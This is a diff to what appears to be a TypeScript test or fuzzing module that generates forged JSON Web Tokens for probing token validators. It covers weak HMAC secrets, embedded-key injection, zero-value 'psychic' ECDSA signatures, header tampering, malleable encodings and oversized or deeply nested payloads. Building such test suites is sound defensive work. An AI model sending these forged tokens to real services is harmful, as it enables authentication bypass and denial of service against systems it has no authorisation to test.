@@ -1,8 +1,9 @@
-import { createSign, generateKeyPairSync, type KeyObject } from 'node:crypto'
+import { generateKeyPairSync, type KeyObject, sign } from 'node:crypto'
 import { claims, encode, forge, now, withHeader, without } from './forge.js'
 
 const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
 const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' })
+const ed = generateKeyPairSync('ed25519')
 const pem = String(rsa.publicKey.export({ type: 'spki', format: 'pem' }))
 const jwk = rsa.publicKey.export({ format: 'jwk' })
 export const good = forge()
@@ -32,7 +33,7 @@ export const attacks: Record<string, (listener: string) => string[]> = {
   'weak-keys': () =>
     ['secret', 'changeme', 'your-256-bit-secret', 'JSONExpress', '\0'.repeat(32)].map((key) => forge({ key })),
   'embedded-jwk': () =>
-    [rsa, ec].flatMap(({ publicKey, privateKey }) => [
+    [rsa, ec, ed].flatMap(({ publicKey, privateKey }) => [
       asymmetric(privateKey, { jwk: publicKey.export({ format: 'jwk' }) }),
       asymmetric(privateKey, { x5c: [publicKey.export({ type: 'spki', format: 'der' }).toString('base64')] }),
       forge({ key: 'mine', header: headerWith({ jwk: { kty: 'oct', k: encode('mine') } }) }),
@@ -46,7 +47,7 @@ export const attacks: Record<string, (listener: string) => string[]> = {
   psychic: () =>
     [Buffer.alloc(64), Buffer.concat([Buffer.alloc(63), Buffer.of(1)]), Buffer.alloc(63), Buffer.alloc(65)]
       .map((signature) => `${encode({ alg: 'ES256', typ: 'at+jwt' })}.${goodPayload}.${encode(signature)}`)
-      .concat(asymmetric(ec.privateKey)),
+      .concat(asymmetric(ec.privateKey), asymmetric(ec.privateKey, {}, 'der')),
   crit: () =>
     [['x'], [], 'x', ['alg'], ['b64'], ['x', 'x']].flatMap((crit) => [
       withHeader({ crit }),
@@ -80,7 +81,10 @@ export const attacks: Record<string, (listener: string) => string[]> = {
           forge({ payload: claims({ iss: 'https://good', aud }) }),
         ),
       ),
-  typ: () => [undefined, 'JWT', 'at+jwt ', 'jwt+at', 'refresh', 1, null].map((typ) => withHeader({ typ })),
+  typ: () =>
+    [undefined, 'JWT', 'at+jwt ', 'AT+JWT', 'application/at+jwt', 'jwt+at', 'refresh', 1, null].map((typ) =>
+      withHeader({ typ }),
+    ),
   sub: () =>
     [1, [], {}, '', null].map((sub) => forge({ payload: claims({ sub }) })).concat(forge({ payload: without('sub') })),
   tokenVersion: () =>
@@ -88,7 +92,7 @@ export const attacks: Record<string, (listener: string) => string[]> = {
       .map((tv) => forge({ payload: claims({ tv }) }))
       .concat(forge({ payload: without('tv') })),
   malleable: () => [
-    ...['=', ' ', '\0', '\ufeff', '%00', '.', '_', 'A'].map((end) => good + end),
+    ...['=', ' ', '\n', '\r\n', '\0', '\ufeff', '%00', '.', '_', 'A'].map((end) => good + end),
     ...[...'AQgw048BCDEFabc'].map((last) => good.slice(0, -1) + last).filter((token) => token !== good),
     ...[' ', '=', '\0'].map((start) => start + good),
     standardAlphabet(),
@@ -103,8 +107,8 @@ export const attacks: Record<string, (listener: string) => string[]> = {
     ...[[], 'text', 1, null, [claims()]].map((payload) => forge({ payload: JSON.stringify(payload) })),
     forge({ header: 'null' }),
     forge({ header: '[]' }),
-    forge({ payload: `${'['.repeat(1000)}${']'.repeat(1000)}` }),
-    ...[8192, 12_000].map((size) => forge({ payload: claims({ padding: 'x'.repeat(size) }) })),
+    ...[1000, 3000, 10_000].map((depth) => forge({ payload: `${'['.repeat(depth)}${']'.repeat(depth)}` })),
+    ...[8192, 12_000, 102_400, 1_048_576].map((size) => forge({ payload: claims({ padding: 'x'.repeat(size) }) })),
   ],
   utf8: () => [
     forge({ payload: Buffer.concat([Buffer.from('{"sub":"'), Buffer.of(0xff, 0xfe), Buffer.from('"}')]) }),
@@ -117,10 +121,11 @@ function headerWith(changes: Record<string, unknown>): Record<string, unknown> {
   return { alg: 'HS256', typ: 'at+jwt', ...changes }
 }
 
-function asymmetric(key: KeyObject, header: Record<string, unknown> = {}): string {
-  const alg = key.asymmetricKeyType === 'ec' ? 'ES256' : 'RS256'
+function asymmetric(key: KeyObject, header: Record<string, unknown> = {}, form: 'der' | 'ieee-p1363' = 'ieee-p1363') {
+  const alg = { ec: 'ES256', ed25519: 'EdDSA', rsa: 'RS256' }[String(key.asymmetricKeyType)]
   const input = `${encode(headerWith({ ...header, alg }))}.${goodPayload}`
-  return `${input}.${createSign('sha256').update(input).sign({ key, dsaEncoding: 'ieee-p1363' }, 'base64url')}`
+  const digest = alg === 'EdDSA' ? null : 'sha256'
+  return `${input}.${encode(sign(digest, Buffer.from(input), { key, dsaEncoding: form }))}`
 }
 
 function publicKeyForms(): (string | Buffer)[] {
